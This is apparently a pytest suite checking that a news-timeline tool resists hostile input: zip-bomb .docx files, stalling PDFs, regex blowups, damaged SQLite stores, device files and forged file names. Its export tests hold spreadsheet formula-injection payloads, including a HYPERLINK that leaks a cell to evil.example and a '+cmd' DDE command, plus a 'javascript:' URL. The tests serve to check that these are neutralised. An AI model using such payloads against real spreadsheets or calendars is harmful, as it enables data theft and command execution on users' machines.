"""Hostile and broken input (issue 13): every file reads and analyses within a budget of time and
memory, exports are safe to open, a damaged store explains itself, and the command line never
shows a traceback. Each test builds its input small, with the generators of
benchmarks/hostile_inputs.py, which measures the same shapes at full size."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import multiprocessing
import os
import signal
import sqlite3
import subprocess
import sys
import threading
import time
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from benchmarks.hostile_inputs import (
    FORGED_NAME,
    anaphora_chain,
    cut_short,
    damaged_blob,
    deep_jsonl,
    docx_bomb,
    docx_with_lying_size,
    empty_file,
    formula_article,
    garbage_inside,
    long_line,
    one_line_sentences,
    overwrite_header,
    pdf_shared_stream,
    slashed_dates,
    table_rows,
)
from timeline import cli, engines, events, export, ingest, pipeline
from timeline.model import Article, Event, Source
from timeline.sentences import split_sentences
from timeline.store import Store, StoreDamaged

PROJECT = Path(__file__).resolve().parent.parent


def _cli(tmp_path: Path, *argv: str) -> subprocess.CompletedProcess:
    """`python -m timeline ARGV` as a user runs it, in a process of its own, with its store under tmp_path."""
    env = {**os.environ, "TIMELINE_DATA_DIR": str(tmp_path / "store")}
    return subprocess.run([sys.executable, "-m", "timeline", *argv], capture_output=True, text=True, cwd=PROJECT, env=env, timeout=300)


@pytest.fixture
def command(tmp_path, monkeypatch, capsys) -> Callable[..., subprocess.CompletedProcess]:
    """The command line in this process (faster than _cli), its store under tmp_path: the exit
    status (argparse's for a usage error), stdout and stderr of one call."""
    monkeypatch.setenv("TIMELINE_DATA_DIR", str(tmp_path / "store"))

    def run(*argv: str) -> subprocess.CompletedProcess:
        try:
            status = cli.main(list(argv))
        except SystemExit as exited:
            status = exited.code
        captured = capsys.readouterr()
        return subprocess.CompletedProcess(argv, status, captured.out, captured.err)

    return run


# -- row 1: analysis in time proportional to the text ------------------------------------------


@contextlib.contextmanager
def _deadline(seconds: float, timer: int = signal.ITIMER_REAL) -> Iterator[None]:
    """Stop the block with TimeoutError past `seconds` (of the clock, or with ITIMER_PROF of this
    process's CPU time), so that a quadratic case fails rather than hangs."""
    sent = {signal.ITIMER_REAL: signal.SIGALRM, signal.ITIMER_PROF: signal.SIGPROF}[timer]

    def expire(*_: object) -> None:
        raise TimeoutError(f"still running after {seconds:.1f} s")

    previous = signal.signal(sent, expire)
    signal.setitimer(timer, seconds)
    try:
        yield
    finally:
        signal.setitimer(timer, 0)
        signal.signal(sent, previous)


def assert_linear(work: Callable[[int], object], size: int, slack: float = 4.0) -> None:
    """work(10 * size) takes less than slack * 10 times the CPU time of work(size) (the best of
    three runs): a linear cost takes about 10 times as long, a quadratic one 100 times. CPU time,
    not the clock, so that other jobs on the machine do not count."""
    work(size)  # warm up: rules compiled, caches filled
    small = min(_cpu_seconds(work, size) for _ in range(3))
    allowed = max(slack * 10 * small, 0.3)
    with _deadline(allowed * 1.5, signal.ITIMER_PROF):
        large = _cpu_seconds(work, 10 * size)
    assert large < allowed, f"{10 * size}: {large:.3f} s against {small:.4f} s at {size}"


def _cpu_seconds(work: Callable[[int], object], size: int) -> float:
    started = time.process_time()
    work(size)
    return time.process_time() - started


def _analysed(make: Callable[[int], bytes]) -> Callable[[int], object]:
    return lambda n: engines.analyze(Article(file="long.txt", text=make(n).decode(), published="2024-06-20"))


@pytest.mark.parametrize(
    "make, size",
    [
        pytest.param(long_line, 300, id="a line of 'It rained in Moscow.'"),
        pytest.param(anaphora_chain, 60, id="'the following day' after a date, one line"),
        pytest.param(slashed_dates, 40, id="'1/2/2003' one after another, one line"),
        pytest.param(one_line_sentences, 600, id="'It rained.' on one line"),
        pytest.param(lambda n: b"On June 19, 2024 talks began" + b"!" * (100 * n) + b"x", 30, id="a run of '!'"),
        pytest.param(lambda n: b"On June 19, 2024 talks began" + b"\t" * (100 * n) + b"(x", 30, id="a run of tabs before a parenthesis"),
    ],
)
def test_analysing_a_pathological_line_takes_time_in_proportion_to_it(make, size):
    assert_linear(_analysed(make), size)


@pytest.mark.parametrize("unit", [b"![a", b"[a](", b" **a", b" _a", b" *a", b"<a "])
def test_reading_markdown_or_a_table_cell_with_unclosed_marks_takes_time_in_proportion_to_it(unit):
    assert_linear(lambda n: ingest.read_upload("notes.md", b"On June 19, 2024 talks began. " + unit * (300 * n)), 10)
    assert_linear(lambda n: ingest.read_upload("rows.csv", b"text\n" + unit * (300 * n) + b" on June 19, 2024"), 10)


def test_the_quote_of_a_date_in_a_line_without_full_stops_is_the_stretch_around_it():
    text = anaphora_chain(400).decode()
    mentions = engines.analyze(Article(file="long.txt", text=text, published="2024-06-20"))
    assert len(mentions) == 401
    assert all(len(m.sentence) <= 2 * events.QUOTE_REACH + len(m.timex.text) for m in mentions)
    assert all(text[m.sentence_start : m.sentence_start + len(m.sentence)] == m.sentence for m in mentions)
    assert all(m.timex.start >= m.sentence_start and m.timex.end <= m.sentence_start + len(m.sentence) for m in mentions)


def test_a_line_of_sentences_is_still_cut_at_each_sentence_but_not_after_an_abbreviation():
    sentences = ["It rained in Moscow.", "Mr. Smith left on Monday.", "Officials said so!", "Gen. J. Doe of the U.S. Army came.", "Prices rose 3.5 percent…", "“Enough,” he said."]
    line = " ".join(sentences * 50)
    assert [line[s:e] for s, e in split_sentences(line)] == sentences * 50


# -- row 2: a .docx that inflates past the limit --------------------------------------------------


def test_a_word_document_that_inflates_past_the_limit_is_refused_before_it_is_parsed(tmp_path):
    bomb = tmp_path / "bomb.docx"
    docx_bomb(bomb, 21_000_000, b"x")
    assert bomb.stat().st_size < 100_000
    tracemalloc.start()
    try:
        articles, problems = ingest.read_upload("bomb.docx", bomb.read_bytes())
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert articles == []
    assert [str(p) for p in problems] == ["bomb.docx: the Word document unpacks to 22.0 MB (word/document.xml: 21.2 MB), over the 20 MB an article may be"]
    assert peak < 5_000_000  # nothing of the 21 MB was held


def test_a_word_document_whose_part_holds_more_than_it_declares_is_refused_while_inflating():
    liar = docx_with_lying_size(25_000_000)
    tracemalloc.start()
    try:
        articles, problems = ingest.read_upload("liar.docx", liar)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert articles == []
    assert "word/document.xml is damaged or holds more than it declares" in problems[0].message
    assert peak < 5_000_000


def test_a_word_document_within_the_limit_is_still_read(tmp_path):
    document = tmp_path / "fine.docx"
    docx_bomb(document, 200_000)
    (article,), problems = ingest.read_upload("fine.docx", document.read_bytes())
    assert problems == [] and article.text.startswith("It rained in Moscow.")


def test_the_command_line_refuses_a_docx_bomb_with_its_message_and_the_store_is_untouched(tmp_path, command):
    bomb = tmp_path / "bomb.docx"
    docx_bomb(bomb, 21_000_000, b"x")
    before = command("corpus", "list")
    added = command("corpus", "add", str(bomb))
    assert added.returncode == 1
    assert "bomb.docx: the Word document unpacks to 22.0 MB" in added.stderr
    assert "0 added, 0 already in the corpus, 1 problem;" in added.stderr
    assert command("corpus", "list").stdout == before.stdout


# -- row 3: a PDF whose pages share one large content stream -------------------------------------


def test_a_pdf_whose_pages_share_a_large_content_stream_is_stopped_at_the_drawing_budget():
    data = pdf_shared_stream(20, 30_000)  # about 1 MB of instructions that every page draws again
    assert len(data) < 5_000
    articles, problems = ingest.read_upload("shared.pdf", data)
    assert articles == []
    assert [p.message for p in problems] == [
        "the PDF's pages draw more than 2 MB of instructions by page 2 (an article's pages hold a few KB each; it may be built to stall readers)"
    ]


def test_the_drawing_budget_counts_a_shared_stream_each_time_a_page_draws_it(monkeypatch):
    monkeypatch.setattr(ingest, "MAX_PDF_DRAWING", 400_000)
    data = pdf_shared_stream(20, 5_000)  # 175 KB drawn by each page: within the budget once, not 20 times
    articles, problems = ingest.read_upload("shared.pdf", data)
    assert articles == [] and problems[0].message.startswith("the PDF's pages draw more than 0.4 MB of instructions by page 3 ")


def test_a_pdf_of_more_pages_than_an_article_has_is_refused_before_any_page_is_read():
    started = time.process_time()
    articles, problems = ingest.read_upload("book.pdf", pdf_shared_stream(2_000, 10))
    assert articles == [] and problems[0].message.startswith("the PDF has 2,000 pages, more than the 1,000 read from one file")
    assert time.process_time() - started < 2


def test_a_pdf_of_a_few_pages_is_read_whole():
    (article,), problems = ingest.read_upload("short.pdf", pdf_shared_stream(3, 40))
    assert problems == [] and article.text.count("It rained in Moscow.") == 120


# -- row 4: exports a spreadsheet or a calendar opens safely --------------------------------------


def _event(**source_fields: str) -> Event:
    source = Source(
        "a1", source_fields.get("file", "a.txt"), source_fields.get("title"), source_fields.get("outlet"), "2024-06-20",
        source_fields.get("url"), source_fields.get("sentence", "Talks began on June 19, 2024."), "June 19, 2024", "2024-06-19",
    )
    return Event("e1", "2024-06-19", dt.date(2024, 6, 19), dt.date(2024, 6, 19), "day", source_fields.get("label", "Talks began"), (source,))


def test_csv_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote():
    formulas = {
        "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        "outlet": "+cmd|' /C calc'!A0",
        "sentence": "-2+3 was the count on June 19, 2024.",
        "file": "@SUM(1+1).txt",
        "label": "\tTalks began",
        "url": "\r=1+1",
    }
    rows = list(csv.DictReader(io.StringIO(export.to_csv([_event(**formulas)]))))
    for column, cell in (("title", "title"), ("outlet", "outlet"), ("sentence", "sentence"), ("file", "source_file"), ("label", "label"), ("url", "url")):
        assert rows[0][cell] == "'" + formulas[column].replace("\r", "\n"), column
    safe = list(csv.DictReader(io.StringIO(export.to_csv([_event(title="Talks, day 2", sentence="Talks began on June 19, 2024.")]))))
    assert safe[0]["title"] == "Talks, day 2" and safe[0]["sentence"] == "Talks began on June 19, 2024."


def test_the_command_line_csv_export_of_a_corpus_with_formulas_runs_none(tmp_path, command):
    article = tmp_path / "formula.txt"
    article.write_bytes(formula_article())
    assert command("corpus", "add", str(article)).returncode == 0
    out = tmp_path / "events.csv"
    exported = command("export", "--format", "csv", "--out", str(out))
    assert exported.returncode == 0 and f"written to {out}" in exported.stderr
    cells = [cell for row in csv.reader(out.open(encoding="utf-8")) for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_calendar_description_carries_only_web_links():
    calendar = export.to_ics([_event(url="javascript:alert(1)"), _event(url="https://news.example/a")])
    unfolded = calendar.replace("\r\n ", "")
    assert "javascript" not in unfolded and "https://news.example/a" in unfolded


# -- row 5: first opens at once --------------------------------------------------------------------


def test_opening_a_store_that_another_connection_is_still_creating_waits_for_it(tmp_path):
    path = tmp_path / "timeline.sqlite"
    creator = sqlite3.connect(path, isolation_level=None, check_same_thread=False)
    creator.execute("BEGIN IMMEDIATE")
    creator.execute("CREATE TABLE half_made (x)")
    finishing = threading.Timer(0.5, lambda: creator.execute("COMMIT"))
    finishing.start()
    try:
        store = Store(path)
        store.add_article(Article(file="a.txt", text="The talks began on June 19, 2024."))
        assert len(store.articles()) == 1
        store.close()
    finally:
        finishing.join()
        creator.close()


def _open_and_add(path: str, start: multiprocessing.synchronize.Barrier, results: multiprocessing.Queue) -> None:
    start.wait()
    try:
        store = Store(path)
        store.add_article(Article(file=f"{os.getpid()}.txt", text=f"Article of process {os.getpid()}."))
        store.close()
        results.put("ok")
    except Exception as error:  # reported to the test, which names it
        results.put(f"{type(error).__name__}: {error}")


def test_two_processes_opening_a_new_store_at_once_both_succeed(tmp_path):
    context = multiprocessing.get_context("fork")
    for round_ in range(8):
        path = str(tmp_path / f"round{round_}" / "timeline.sqlite")
        start, results = context.Barrier(2), context.Queue()
        workers = [context.Process(target=_open_and_add, args=(path, start, results)) for _ in range(2)]
        for worker in workers:
            worker.start()
        for worker in workers:
            worker.join(60)
        assert [results.get(timeout=5) for _ in workers] == ["ok", "ok"]
        assert len(Store(path).articles()) == 2
        assert sorted(p.name for p in Path(path).parent.iterdir() if ".new" in p.name) == []  # no half-made store left behind


# -- row 6: a damaged store -----------------------------------------------------------------------


@pytest.fixture(scope="module")
def stored(tmp_path_factory) -> Path:
    """A store with the sample corpus and its merged events, made once; tests damage copies of it."""
    store = pipeline.open_store(tmp_path_factory.mktemp("pristine"))
    pipeline.ensure_sample_corpus(store)
    pipeline.sync(store)
    store.close()  # the last connection: the WAL is checkpointed into the file
    return Path(store.path)


def _copy_of(stored: Path, tmp_path: Path) -> Path:
    store = tmp_path / "store" / "timeline.sqlite"
    store.parent.mkdir()
    store.write_bytes(stored.read_bytes())
    return store


def test_a_damaged_store_gives_one_message_naming_it_and_what_to_do_and_reset_keeps_it(stored, tmp_path, command):
    store = _copy_of(stored, tmp_path)
    overwrite_header(store)
    damaged = store.read_bytes()
    for argv in (("corpus", "list"), ("corpus", "add", str(PROJECT / "README.md"))):
        shown = _cli(tmp_path, *argv)
        assert shown.returncode == 1, argv
        assert "Traceback" not in shown.stderr, argv
        assert shown.stderr == str(StoreDamaged(str(store), "file is not a database")) + "\n", argv
        assert store.read_bytes() == damaged  # never rebuilt, never written
    reset = _cli(tmp_path, "corpus", "reset")
    assert reset.returncode == 0 and "moved" in reset.stderr
    (kept,) = [p for p in store.parent.iterdir() if p.name.startswith("timeline-damaged-")]
    assert kept.read_bytes() == damaged
    listed = command("corpus", "list")
    assert listed.returncode == 0 and len(listed.stdout.splitlines()) == 5  # a new corpus, with the sample


def test_a_store_another_process_keeps_locked_past_the_busy_timeout_is_a_message(stored, tmp_path, command, monkeypatch):
    from timeline import store as store_module

    monkeypatch.setattr(store_module, "BUSY_TIMEOUT_S", 0.5)
    holder = sqlite3.connect(_copy_of(stored, tmp_path), isolation_level=None)
    (article_id,) = holder.execute("SELECT id FROM articles LIMIT 1").fetchone()
    holder.execute("BEGIN EXCLUSIVE")
    try:  # opening reads, and a current store is not written to; the date fix must wait for the lock
        busy = command("corpus", "set-date", article_id, "2024-06-20")
    finally:
        holder.close()
    assert busy.returncode == 1 and busy.stderr.startswith("the corpus store is busy: another process kept it locked")


@pytest.mark.parametrize("damage", [cut_short, garbage_inside, empty_file], ids=lambda f: f.__name__)
def test_a_store_cut_short_full_of_garbage_or_empty_is_named_damaged_never_rebuilt(stored, tmp_path, command, damage):
    store = _copy_of(stored, tmp_path)
    damage(store)
    damaged = store.read_bytes()
    for argv in (("corpus", "list"), ("export", "--format", "csv")):
        shown = command(*argv)
        assert shown.returncode == 1 and f"the corpus store {store} is damaged (" in shown.stderr and "corpus reset" in shown.stderr, argv
        assert shown.stdout == "" and store.read_bytes() == damaged


def test_the_dashboard_shows_the_same_message_for_a_damaged_store(stored, tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    store = _copy_of(stored, tmp_path)
    overwrite_header(store)
    monkeypatch.setenv("TIMELINE_DATA_DIR", str(store.parent))
    app = AppTest.from_file(str(PROJECT / "dashboard.py"), default_timeout=60).run()
    assert not app.exception
    assert [e.value for e in app.error] == [str(StoreDamaged(str(store), "file is not a database"))]


def test_a_damaged_cached_event_set_is_merged_again_and_reported(stored, tmp_path, command):
    store = _copy_of(stored, tmp_path)
    expected = command("export", "--format", "json").stdout
    damaged_blob(store)
    again = command("export", "--format", "json")
    assert again.returncode == 0 and again.stdout == expected
    assert f"{store}: the cached events could not be read; they were merged again" in again.stderr
    assert command("export", "--format", "json").stderr == ""  # the set was stored again, sound


def test_damaged_cached_mentions_are_analysed_again_and_reported(tmp_path):
    store = Store(tmp_path / "timeline.sqlite")
    article = Article(file="a.txt", text="The talks began on June 19, 2024, in Moscow.", published="2024-06-20")
    pipeline.add_articles(store, [article])
    expected = pipeline.analyze_all([article], store)
    with sqlite3.connect(tmp_path / "timeline.sqlite") as db:
        db.execute("UPDATE mentions SET payload = 'not json'")
    assert pipeline.analyze_all([article], store) == expected
    assert store.repairs == ["the cached analysis of 1 article could not be read; it was analysed again"]


def test_a_backup_is_a_consistent_copy_while_another_process_writes(tmp_path):
    path = tmp_path / "timeline.sqlite"
    store = Store(path)
    store.add_article(Article(file="a.txt", text="The talks began on June 19, 2024."))
    writer = sqlite3.connect(path, isolation_level=None)
    writer.execute("BEGIN IMMEDIATE")
    writer.execute("INSERT INTO articles (id, file, published_source, language, text, added_at) VALUES ('x', 'x.txt', 'unknown', 'en', 'x', 'now')")
    store.backup(tmp_path / "copy.sqlite")  # while the write is under way, not committed
    writer.execute("COMMIT")
    copy = sqlite3.connect(tmp_path / "copy.sqlite")
    assert copy.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert [row[0] for row in copy.execute("SELECT file FROM articles")] == ["a.txt"]


def test_corpus_backup_writes_a_copy_and_says_where(stored, tmp_path, command):
    folder = tmp_path / "backups"
    folder.mkdir()
    nothing = command("corpus", "backup", str(folder))
    assert nothing.returncode == 1 and "no corpus store at" in nothing.stderr and not list(folder.iterdir())
    _copy_of(stored, tmp_path)
    done = command("corpus", "backup", str(folder))
    (copy,) = folder.iterdir()
    assert done.returncode == 0 and f"to {copy}" in done.stderr and "(5 articles)" in done.stderr
    assert len(Store(copy).articles()) == 5
    again = command("corpus", "backup", str(copy))
    assert again.returncode == 2 and "already exists" in again.stderr


# -- row 7: a table's rows fail alone ------------------------------------------------------------


def test_a_jsonl_row_nested_thousands_deep_is_reported_and_the_others_are_read():
    articles, problems = ingest.read_upload("deep.jsonl", deep_jsonl(5_000))
    assert [a.file for a in articles] == ["deep.jsonl#row1", "deep.jsonl#row3"]
    assert [str(p) for p in problems] == ["deep.jsonl: row 2: JSON nested too deeply to be an article"]


def test_a_json_array_item_that_cannot_be_read_is_reported_and_the_others_are_read():
    good = json.dumps({"text": "Lawmakers voted on June 3, 2024 to end the strike."})
    items = [good, '{"text": ' + "[" * 5000 + "]" * 5000 + "}", good.replace("June 3", "June 4"), '{"text": "x", "count": ' + "9" * 5000 + "}", good.replace("June 3", "June 5")]
    articles, problems = ingest.read_upload("feed.json", ("[" + ",\n".join(items) + "]").encode())
    assert [a.file for a in articles] == ["feed.json#row1", "feed.json#row3", "feed.json#row5"]
    assert [p.message.split(" (")[0] for p in problems] == ["row 2: JSON nested too deeply to be an article", "row 4: could not be read"]


def test_a_jsonl_row_that_is_not_utf8_is_reported_and_the_others_are_read():
    rows = [json.dumps({"text": f"The café opened on June {day}, 2024."}, ensure_ascii=False).encode() for day in (3, 4, 5)]
    rows[1] = rows[1].replace("é".encode(), b"\xe9")
    articles, problems = ingest.read_upload("feed.jsonl", b"\n".join(rows))
    assert [a.file for a in articles] == ["feed.jsonl#row1", "feed.jsonl#row3"] and "café" in articles[0].text
    assert [p.message for p in problems] == ["row 2: not UTF-8 text, as JSON Lines must be (the other rows are read)"]


def test_a_date_cell_that_is_no_date_is_quoted_short_in_its_message_however_long():
    cell = "a." * 100_000
    started = time.process_time()
    (article,), problems = ingest.read_upload("rows.csv", f"text,published\nTalks began on June 19 2024.,{cell}\n".encode())
    assert time.process_time() - started < 2
    assert article.published is None
    assert problems[0].message == f"row 1: could not read the date '{cell[:60]}…'; using the date in the text, if any"


# -- row 8: devices and pipes ----------------------------------------------------------------------


def test_adding_dev_zero_is_refused_without_reading_it(stored, tmp_path):
    _copy_of(stored, tmp_path)
    added = _cli(tmp_path, "corpus", "add", "/dev/zero")
    assert added.returncode == 1 and "Traceback" not in added.stderr
    assert "zero: not a regular file (a device, a pipe or a socket); only files are read" in added.stderr.splitlines()


def test_adding_a_txt_link_to_dev_zero_is_refused_without_reading_it(tmp_path):
    link = tmp_path / "zero.txt"
    link.symlink_to("/dev/zero")
    assert ingest.read_bytes(link).message == "not a regular file (a device, a pipe or a socket); only files are read"


def test_reading_a_named_pipe_neither_blocks_nor_reads_it(tmp_path):
    pipe = tmp_path / "feed.txt"
    os.mkfifo(pipe)
    with _deadline(10):
        problem = ingest.read_bytes(pipe)
    assert problem.message == "not a regular file (a device, a pipe or a socket); only files are read"


def test_a_file_is_never_read_past_the_limit_even_when_it_grows(tmp_path, monkeypatch):
    path = tmp_path / "growing.txt"
    path.write_bytes(b"x" * 1000)
    monkeypatch.setattr(ingest, "MAX_BYTES", 500)
    monkeypatch.setattr(os, "fstat", lambda fd, real=os.fstat: os.stat_result((*real(fd)[:6], 10, *real(fd)[7:])))  # claims 10 bytes
    assert ingest.read_bytes(path).message == "file grew past the 0.0005 MB limit while it was read"


# -- row 9: names shown as data --------------------------------------------------------------------


def test_a_file_name_with_a_newline_cannot_forge_a_line_of_the_report(stored, tmp_path):
    _copy_of(stored, tmp_path)
    forged = tmp_path / FORGED_NAME
    forged.write_bytes(b"")
    added = _cli(tmp_path, "corpus", "add", str(forged))
    lines = added.stderr.splitlines()
    assert "fake.txt: 999 added, 0 problems" not in lines and "real.txt: empty file" not in lines
    assert "fake.txt: 999 added, 0 problems\\nreal.txt: empty file" in lines
    assert lines[-1].startswith("0 added, 0 already in the corpus, 1 problem;")


# -- row 10: large tables ------------------------------------------------------------------------


def test_adding_a_table_commits_its_rows_in_batches_not_one_by_one(tmp_path):
    store = Store(tmp_path / "timeline.sqlite")
    commits = []
    store._db.set_trace_callback(lambda statement: commits.append(statement) if statement.strip().upper().startswith("COMMIT") else None)
    result = pipeline.ingest_files(store, [("rows.csv", table_rows(1_000))])
    assert len(result.added) == 1_000 and result.problems == []
    assert len(commits) <= 5
    assert len(store.articles()) == 1_000


def test_adding_a_table_takes_time_in_proportion_to_its_rows(tmp_path):
    def add(rows: int) -> None:
        store = Store(tmp_path / f"{rows}-{time.monotonic_ns()}.sqlite")
        pipeline.ingest_files(store, [("rows.csv", table_rows(rows))])
        store.close()

    assert_linear(add, 100)


# -- a command line a newcomer trusts ---------------------------------------------------------------


def test_a_closed_pipe_ends_the_command_quietly(tmp_path):
    article = tmp_path / "dates.txt"
    article.write_text("Published: June 20, 2024\n" + "Talks resumed on June 19, 2024. " * 400, encoding="utf-8")  # 40 KB of output
    env = {**os.environ, "TIMELINE_DATA_DIR": str(tmp_path / "store")}
    tagging = subprocess.Popen([sys.executable, "-m", "timeline", "tag", str(article)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=PROJECT, env=env)
    assert tagging.stdout.readline().startswith(b"{")
    tagging.stdout.close()  # as `| head -1` does
    assert tagging.wait(120) == 0
    assert tagging.stderr.read() == b""


def test_tag_marks_the_expressions_of_the_dateline(command):
    seed = next((PROJECT / "data").glob("004_*.txt"))
    tagged = command("tag", str(seed))
    rows = [json.loads(line) for line in tagged.stdout.splitlines()]
    assert [(r["text"], r.get("role")) for r in rows[:3]] == [("2024.10.16", "dateline"), ("09:08", "dateline"), ("June", None)]
    assert sum(r.get("role") == "dateline" for r in rows) == 2


@pytest.mark.parametrize(
    "argv, message",
    [
        (["eval-timeml", "no-such-folder"], "no-such-folder: folder not found"),
        (["eval-tls", "no-such-folder"], "no-such-folder: folder not found"),
        (["build", "no-such-folder"], "no-such-folder: folder not found"),
        (["export", "no-such-folder", "--format", "csv"], "no-such-folder: folder not found"),
        (["tag", "no-such-file.txt"], "no-such-file.txt: file not found"),
    ],
)
def test_a_missing_folder_or_file_is_a_usage_error(command, argv, message):
    done = command(*argv)
    assert done.returncode == 2 and message in done.stderr


def test_a_folder_without_timeml_documents_scores_nothing_and_fails(tmp_path, command):
    done = command("eval-timeml", str(tmp_path))
    assert done.returncode == 1 and done.stdout == "" and "no TimeML (.tml) files" in done.stderr


def test_every_command_that_writes_says_what_and_where(tmp_path, command):
    out = tmp_path / "events.ics"
    exported = command("export", "--format", "ics", "--out", str(out))
    assert exported.returncode == 0 and exported.stderr.strip().endswith(f"(ics) written to {out}")
    store = tmp_path / "store" / "timeline.sqlite"
    listed = command("corpus", "list")
    assert listed.stderr.strip() == f"5 articles in the corpus at {store}"
    first = json.loads(listed.stdout.splitlines()[0])
    dated = command("corpus", "set-date", first["id"], "2024-11-12")
    assert dated.returncode == 0 and f"publication date set to 2024-11-12 in the corpus at {store}" in dated.stderr
    removed = command("corpus", "remove", first["id"])
    assert removed.returncode == 0 and f"from the corpus at {store}" in removed.stderr
    unknown = command("corpus", "remove", first["id"])
    assert unknown.returncode == 1 and f"no article with id {first['id']}" in unknown.stderr
